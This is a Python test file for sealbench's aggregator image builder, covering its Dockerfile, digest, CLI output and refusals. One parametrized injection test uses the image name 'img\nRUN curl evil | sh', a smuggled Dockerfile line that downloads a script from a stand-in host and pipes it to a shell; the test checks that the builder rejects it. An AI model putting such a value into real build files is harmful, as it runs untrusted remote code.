"""The aggregator image (issue 27), without Docker: derived from the CPU evaluation image by a
Dockerfile that adds configuration only (its launch policy is exactly the aggregator spec's
variables, its command is ``python -m sealbench.enclave aggregate``), its normalized digest
differs from the evaluation image's and depends on nothing a rebuild changes, ``sealbench image
build`` prints it, and an image that is not an aggregator is not taken for one."""

from __future__ import annotations

import json
from typing import Any

import pytest
from typer.testing import CliRunner

from sealbench.client.cli import app
from sealbench.client.images import build as image_module
from sealbench.client.images import pinned
from sealbench.client.images.build import (
    AGGREGATOR_ENTRYPOINT,
    LABEL_ACCELERATOR,
    LABEL_ALLOW_ENV_OVERRIDE,
    LABEL_TITLE,
    ImageBuildError,
    aggregator_dockerfile,
    build_aggregator_image,
    canonical_config,
    local_aggregator_image,
)
from sealbench.contract.pool import AGGREGATE_ENV_NAMES
from sealbench.contract.spec import ENV_OVERRIDE_NAMES
from sealbench.crypto.digest import sha256_digest
from tests.unit.client.test_image_variant import ROOT, FakeEngine, FakeImage, fake_engine

EVALUATION_ID = str(sha256_digest(b"evaluation"))


@pytest.fixture
def engine(monkeypatch: pytest.MonkeyPatch) -> FakeEngine:
    """A fake engine holding a CPU evaluation image tagged ``sealbench-eval:latest``."""
    fake = fake_engine(monkeypatch)
    evaluation = FakeImage(EVALUATION_ID, {
        LABEL_ALLOW_ENV_OVERRIDE: ",".join(ENV_OVERRIDE_NAMES), LABEL_ACCELERATOR: "cpu",
        LABEL_TITLE: "sealbench evaluation"},
        attrs={"Config": {"Entrypoint": ["python", "-m", "sealbench.enclave"]}})
    fake.images.tagged[EVALUATION_ID] = fake.images.tagged["sealbench-eval:latest"] = evaluation
    return fake


def test_dockerfile_adds_only_the_aggregators_configuration() -> None:
    lines = aggregator_dockerfile(EVALUATION_ID).splitlines()
    assert lines[0] == f"FROM {EVALUATION_ID}"
    assert [line.split()[0] for line in lines if not line.startswith(" ")] == [
        "FROM", "LABEL", "ENTRYPOINT"]  # no RUN, COPY or ADD: no new layer, no CMD
    assert f'{LABEL_ALLOW_ENV_OVERRIDE}="{",".join(AGGREGATE_ENV_NAMES)}"' in lines[1]
    assert f'{LABEL_TITLE}="sealbench aggregator"' in lines[2]
    assert json.loads(lines[3].removeprefix("ENTRYPOINT ")) == list(AGGREGATOR_ENTRYPOINT)


@pytest.mark.parametrize("name", ["img\nRUN curl evil | sh", 'img" LABEL x="y', "", " img"])
def test_dockerfile_injection_through_the_image_name_refused(name: str) -> None:
    with pytest.raises(ValueError, match="not an image ID or reference"):
        aggregator_dockerfile(name)


def _attrs(entrypoint: list[str], labels: dict[str, str], created: str) -> dict[str, Any]:
    return {
        "Architecture": "amd64", "Os": "linux", "Created": created, "Container": created,
        "RootFS": {"Layers": ["sha256:" + "1" * 64, "sha256:" + "2" * 64]},
        "Config": {"Entrypoint": entrypoint, "Labels": labels, "User": "10001:10001"},
    }


def test_aggregator_configuration_has_its_own_digest_over_the_same_layers() -> None:
    """Same layers, another command and launch policy: another digest; and the builder's
    times and container ids (which differ between two builds) do not enter it."""
    evaluation = canonical_config(_attrs(["python", "-m", "sealbench.enclave"], {
        LABEL_ALLOW_ENV_OVERRIDE: ",".join(ENV_OVERRIDE_NAMES)}, "2024-01-01"), 1)
    labels = {LABEL_ALLOW_ENV_OVERRIDE: ",".join(AGGREGATE_ENV_NAMES)}
    first = canonical_config(_attrs(list(AGGREGATOR_ENTRYPOINT), labels, "2024-01-01"), 1)
    again = canonical_config(_attrs(list(AGGREGATOR_ENTRYPOINT), labels, "2025-06-30"), 1)
    assert first == again and first != evaluation
    assert json.loads(first)["rootfs"] == json.loads(evaluation)["rootfs"]


def test_build_derives_the_aggregator_from_the_evaluation_image(engine: FakeEngine) -> None:
    built = build_aggregator_image(engine, "sealbench-eval:latest")  # type: ignore[arg-type]
    [call] = engine.api.calls
    assert call["tag"] == "sealbench-aggregate:latest" and call["pull"] is False
    assert call["fileobj"].getvalue().decode() == aggregator_dockerfile(EVALUATION_ID)
    assert built.digest != EVALUATION_ID and built.base_image == "sealbench-eval:latest"
    assert built.reference == f"sealbench-aggregate:{built.digest.removeprefix('sha256:')[:12]}"
    assert built.labels[LABEL_ALLOW_ENV_OVERRIDE] == ",".join(AGGREGATE_ENV_NAMES)
    assert built.labels[LABEL_TITLE] == "sealbench aggregator"
    found = local_aggregator_image(engine)  # type: ignore[arg-type]
    assert (found.reference, found.digest) == (built.reference, built.digest)


def test_aggregator_from_a_cuda_image_refused(engine: FakeEngine) -> None:
    engine.images.tagged["sealbench-eval:latest-cuda"] = FakeImage(
        str(sha256_digest(b"cuda")), {LABEL_ACCELERATOR: "cuda"})
    with pytest.raises(ImageBuildError, match="derived from the CPU evaluation image"):
        build_aggregator_image(engine, "sealbench-eval:latest-cuda")  # type: ignore[arg-type]
    assert engine.api.calls == []


def test_evaluation_image_not_taken_for_the_aggregator(engine: FakeEngine) -> None:
    with pytest.raises(ImageBuildError, match="is not an aggregator image") as refused:
        local_aggregator_image(engine, "sealbench-eval:latest")  # type: ignore[arg-type]
    assert "sealbench image build" in str(refused.value.hint)


def test_absent_aggregator_says_how_to_build_it(engine: FakeEngine) -> None:
    with pytest.raises(ImageBuildError, match="aggregator image sealbench-aggregate:latest is "
                       "not present") as refused:
        local_aggregator_image(engine)  # type: ignore[arg-type]
    assert "sealbench image build" in str(refused.value.hint)


@pytest.mark.parametrize("json_out", [False, True])
def test_image_build_prints_the_aggregator(
    engine: FakeEngine, monkeypatch: pytest.MonkeyPatch, json_out: bool
) -> None:
    monkeypatch.setattr(image_module, "connect_engine", lambda: engine)
    monkeypatch.setattr(pinned, "docker_image_module", lambda: image_module)
    args = ["image", "build", "--source", str(ROOT), "--base-image", "sealbench-base:bookworm"]
    result = CliRunner().invoke(app, [*args, *(["--json"] if json_out else [])])
    assert result.exit_code == 0, result.output
    aggregator = local_aggregator_image(engine)  # type: ignore[arg-type]
    if json_out:
        document = json.loads(result.stdout)
        assert document["aggregator_reference"] == aggregator.reference
        assert document["aggregator_digest"] == aggregator.digest != document["digest"]
    else:
        assert (f"aggregator {aggregator.reference}\naggregator digest {aggregator.digest}"
                in result.stdout)
